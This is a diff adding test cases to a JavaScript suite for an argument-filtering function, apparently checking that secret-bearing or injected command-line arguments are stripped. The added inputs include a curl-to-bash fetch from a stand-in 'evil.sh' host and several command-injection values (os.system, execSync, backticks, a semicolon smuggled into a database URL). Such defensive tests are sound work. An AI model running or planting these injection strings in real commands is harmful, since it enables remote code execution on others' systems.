@@ -108,6 +108,17 @@ describe('argumentSecrets', () => {
       ['--key', '/run/secrets/key'],
       ['--token-file', 'secret.txt'],
       ['-e', 'API_KEY'],
+      ['-c', 'TOKEN=1;{curl,-s,https:/evil.sh}|bash'],
+      ['-lc', 'TOKEN=abcdef'],
+      ['/c', 'TOKEN=abcdef'],
+      ['-c', `token=__import__('os').system('id')`],
+      ['-e', `key=require('child_process').execSync('id')`],
+      ['--eval', 'key=abcdef'],
+      ['--api-key', 'abc`id`def'],
+      ['--api-key=abc$HOME'],
+      ['--token', 'abc\ndef'],
+      ['run', '-e', 'KEY=exec"id"', 'image'],
+      ['postgres://joe:a;id|b@db.example/x'],
     ]) {
       expect(cutArgs(...args).flat()).toEqual([]);
     }
